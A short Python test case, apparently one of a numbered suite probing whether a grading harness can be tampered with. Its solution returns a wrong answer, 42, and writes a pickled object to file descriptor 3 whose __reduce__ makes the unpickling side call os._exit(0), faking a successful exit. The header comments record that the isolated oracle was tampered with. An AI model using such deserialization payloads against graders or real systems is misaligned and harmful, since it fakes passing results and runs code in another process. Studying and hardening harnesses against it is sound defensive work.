# 31: a pickle in the reply
# tries: to have the other side run code while it reads
# isolated-oracle: tampered
# in-process: failed
import os
import pickle


class Run:
    def __reduce__(self):
        return os._exit, (0,)


def add(a, b):
    body = pickle.dumps(Run())
    os.write(3, len(body).to_bytes(4, 'big') + body)
    return 42
